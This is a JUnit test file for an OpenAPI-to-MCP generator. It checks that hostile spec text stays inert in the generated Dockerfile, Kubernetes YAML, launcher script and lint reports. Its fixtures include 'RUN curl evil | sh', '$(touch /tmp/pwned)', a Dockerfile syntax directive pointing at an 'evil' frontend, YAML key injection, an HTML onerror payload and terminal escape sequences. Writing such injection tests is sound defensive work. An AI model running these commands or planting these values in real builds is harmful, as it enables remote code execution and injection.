package dev.openapi2mcp.generator;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertThrows;

import com.fasterxml.jackson.core.json.JsonWriteFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.dataformat.yaml.YAMLMapper;
import dev.openapi2mcp.generator.lint.ReportFiles;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 11: spec text that reaches the deployment files and the lint reports stays text there. A title, version,
 * server URL, path and description carrying line breaks of every kind, YAML keys, shell substitutions, quotes, a
 * Dockerfile parser directive, HTML and a terminal escape sequence add no Dockerfile instruction or directive, no
 * YAML key or document, no shell line, no Markdown row or HTML, and come back unchanged where they are data.
 */
class SpecTextInFilesTest {
  /** A Dockerfile parser directive, as Docker reads the lines at the top of the file. */
  private static final Pattern DIRECTIVE = Pattern.compile("^#\\s*([a-zA-Z][a-zA-Z0-9]*)\\s*=\\s*(.+?)\\s*$");

  static final String TITLE = "syntax=docker.io/evil/frontend\nkind: Secret\r\u0085injected: true\u2028"
      + "$(touch /tmp/pwned) `id` \"q\" ' \u202e\u2066\ufeff\u001b[2J\ud800 ---";
  static final String VERSION = "1.0\nRUN curl evil | sh\u2029EXPOSE 22";
  /** Valid as a URI (java.net.URI takes these non-ASCII characters), so it reaches the Deployment's arguments. */
  static final String SERVER_URL = "https://api.example.com/v1/$(id)'\u00e9\u202e\ufeff";
  static final String PATH = "/items|x\n<img src=x onerror=alert(1)>\u001b[31m";
  static final String DESCRIPTION = "Line one\n\"},{\"name\":\"injected\"} <b>bold</b> `id` $(id)";

  private static final ObjectMapper JSON = JsonMapper.builder().enable(JsonWriteFeature.ESCAPE_NON_ASCII).build();
  private static final YAMLMapper YAML = new YAMLMapper();

  @TempDir
  Path temp;

  Path deploy;
  Path reports;

  @BeforeEach
  void generate() throws Exception {
    ObjectNode spec = JsonNodeFactory.instance.objectNode().put("openapi", "3.0.3");
    spec.putObject("info").put("title", TITLE).put("version", VERSION);
    spec.putArray("servers").addObject().put("url", SERVER_URL);
    ObjectNode paths = spec.putObject("paths");
    paths.putObject(PATH).putObject("post").put("operationId", "createItem").putObject("responses")
        .putObject("204").put("description", "Done.");
    paths.putObject("/other").putObject("get").put("operationId", "listOther").put("description", DESCRIPTION)
        .putObject("responses").putObject("204").put("description", "Done.");
    Path file = temp.resolve("spec.json");
    Files.writeString(file, JSON.writeValueAsString(spec));
    deploy = temp.resolve("deploy");
    reports = temp.resolve("reports");
    Generator.run(new GeneratorConfig(file.toString(), temp.resolve("src"), "com.example.hostile", "hostile")
        .withDeploymentDirectory(deploy).withReportDirectory(reports));
  }

  @Test
  void theDockerfileGetsNoDirectiveAndNoInstructionFromSpecText() throws Exception {
    List<String> lines = Files.readAllLines(deploy.resolve("Dockerfile"));
    for (String line : lines) {
      if (!line.startsWith("#")) {
        break;
      }
      Matcher directive = DIRECTIVE.matcher(line);
      assertThat(directive.matches()).as("parser directive in %s", line).isFalse();
    }
    List<String> instructions = new ArrayList<>();
    for (String line : lines) {
      if (!line.isBlank() && !line.startsWith("#")) {
        instructions.add(line.split(" ", 2)[0]);
        assertThat(line).doesNotContain("evil", "pwned", "EXPOSE 22");
      }
    }
    assertThat(instructions).containsExactly("FROM", "ARG", "WORKDIR", "COPY", "RUN", "USER", "EXPOSE", "ENTRYPOINT");
    assertThat(lines).anySatisfy(line -> assertThat(line).startsWith("# ")
        .contains("syntax=docker.io/evil/frontend kind: Secret injected: true $(touch /tmp/pwned) `id` \"q\" ' ")
        .contains("1.0 RUN curl evil | sh EXPOSE 22"));
  }

  @Test
  void theKubernetesFilesAreOneDocumentEachWithTheTemplatesKeysAndTheUrlAsOneArgument() throws Exception {
    for (String name : List.of("deployment.yaml", "service.yaml", "hpa.yaml")) {
      String text = Files.readString(deploy.resolve("kubernetes").resolve(name));
      assertThat(text).as(name).doesNotContain("\u0085", "\u2028", "\u2029", "\u202e", "\u001b", "\ufeff");
      List<JsonNode> documents = YAML.readerFor(JsonNode.class).<JsonNode>readValues(text).readAll();
      assertThat(documents).as(name).hasSize(1);
      JsonNode document = documents.get(0);
      assertThat(fieldNames(document)).as(name).doesNotContain("injected", "RUN curl evil | sh");
      List<String> top = new ArrayList<>();
      document.fieldNames().forEachRemaining(top::add);
      assertThat(top).as(name).containsExactly("apiVersion", "kind", "metadata", "spec");
    }
    JsonNode deployment = YAML.readTree(Files.readString(deploy.resolve("kubernetes/deployment.yaml")));
    assertThat(deployment.get("kind").asText()).isEqualTo("Deployment");
    JsonNode args = deployment.at("/spec/template/spec/containers/0/args");
    assertThat(args.size()).isEqualTo(2);
    assertThat(args.get(0).asText()).isEqualTo("--base-url");
    assertThat(args.get(1).asText()).isEqualTo(SERVER_URL);
  }

  @Test
  void theKustomizeFilesAreOneDocumentEachAndKeepTheUrlAsOneArgument() throws Exception {
    Path kustomize = deploy.resolve("kubernetes/kustomize");
    List<Path> files;
    try (java.util.stream.Stream<Path> walk = Files.walk(kustomize)) {
      files = walk.filter(Files::isRegularFile).filter(file -> file.toString().endsWith(".yaml")).toList();
    }
    assertThat(files).hasSize(9);
    for (Path file : files) {
      String text = Files.readString(file);
      String name = kustomize.relativize(file).toString();
      assertThat(text).as(name).doesNotContain("\u0085", "\u2028", "\u2029", "\u202e", "\u001b", "\ufeff");
      List<JsonNode> documents = YAML.readerFor(JsonNode.class).<JsonNode>readValues(text).readAll();
      assertThat(documents).as(name).hasSize(1);
      assertThat(fieldNames(documents.get(0))).as(name).doesNotContain("injected", "RUN curl evil | sh");
    }
    JsonNode patch = YAML.readTree(Files.readString(kustomize.resolve("overlays/inbound-auth/inbound-auth.yaml")));
    List<String> args = new ArrayList<>();
    patch.at("/spec/template/spec/containers/0/args").forEach(arg -> args.add(arg.asText()));
    assertThat(args).containsExactly("--base-url", SERVER_URL, "--auth-tokens-env", "MCP_TOKENS");
  }

  @Test
  void theRegistryEntryHoldsTheTitleAsOneJsonString() throws Exception {
    JsonNode entry = JSON.readTree(Files.readString(deploy.resolve("server.json")));
    assertThat(fieldNames(entry)).doesNotContain("injected");
    assertThat(entry.get("title").asText()).doesNotContain("\n", "\u2028", "\u202e", "\u001b")
        .contains("kind: Secret injected: true");
  }

  @Test
  void theLauncherHoldsSpecTextOnlyInCommentLines() throws Exception {
    for (String line : Files.readAllLines(deploy.resolve("bin/hostile-mcp-server"))) {
      if (line.contains("evil") || line.contains("pwned")) {
        assertThat(line).startsWith("# ");
      }
      assertThat(line).doesNotContain("\u001b", "\u202e", "\r");
    }
  }

  @Test
  void theLintReportKeepsEachToolOnOneRowWithoutHtmlOrEscapeSequences() throws Exception {
    String markdown = Files.readString(reports.resolve(ReportFiles.LINT_MD));
    assertThat(markdown).doesNotContain("<img", "<b>", "\u001b", "\r");
    List<String> rows = markdown.lines().filter(line -> line.startsWith("| ")).toList();
    List<String> toolRows = rows.stream().filter(line -> line.contains("only POST")).toList();
    assertThat(toolRows).hasSize(1);
    // Cells are separated by pipes that no backslash escapes: tool, tokens, findings.
    assertThat(toolRows.get(0).split("(?<!\\\\)\\|", -1)).hasSize(5);
    assertThat(toolRows.get(0)).contains("/items\\|x &lt;img src=x onerror=alert(1)>");
  }

  @Test
  void toolsListJsonCarriesTheDescriptionAsAString() throws Exception {
    JsonNode tools = new ObjectMapper().readTree(Files.readString(reports.resolve(ReportFiles.TOOLS_LIST_JSON)))
        .get("tools");
    assertThat(tools.size()).isEqualTo(2);
    List<String> names = new ArrayList<>();
    tools.forEach(tool -> names.add(tool.get("name").asText()));
    assertThat(names).doesNotContain("injected");
    assertThat(tools.get(1).get("description").asText()).contains(DESCRIPTION);
  }

  @Test
  void diagnosticsShowControlCharactersOfSpecTextAsEscapes() throws Exception {
    ObjectNode spec = JsonNodeFactory.instance.objectNode().put("openapi", "3.0.3");
    spec.putObject("info").put("title", "Items").put("version", "1");
    // A path parameter that no parameter declares: an error that quotes the path.
    spec.putObject("paths").putObject("/items/{id}\u001b[2J\u009b31m\r").putObject("get")
        .putObject("responses").putObject("204").put("description", "Done.");
    Path file = temp.resolve("broken.json");
    Files.writeString(file, JSON.writeValueAsString(spec));

    GenerationException error = assertThrows(GenerationException.class, () -> Generator.run(
        new GeneratorConfig(file.toString(), temp.resolve("broken"), "com.example.hostile", "hostile")));

    assertThat(error.getMessage()).doesNotContain("\u001b", "\u009b", "\r").contains("\\u001b[2J\\u009b31m");
    assertThat(error.diagnostics()).allSatisfy(d -> assertThat(d.toString()).doesNotContain("\u001b", "\u009b"));
  }

  private static List<String> fieldNames(JsonNode node) {
    List<String> names = new ArrayList<>();
    for (Iterator<Map.Entry<String, JsonNode>> fields = node.fields(); fields.hasNext(); ) {
      Map.Entry<String, JsonNode> field = fields.next();
      names.add(field.getKey());
      names.addAll(fieldNames(field.getValue()));
    }
    node.elements().forEachRemaining(element -> {
      if (element.isContainerNode() && node.isArray()) {
        names.addAll(fieldNames(element));
      }
    });
    return names;
  }
}
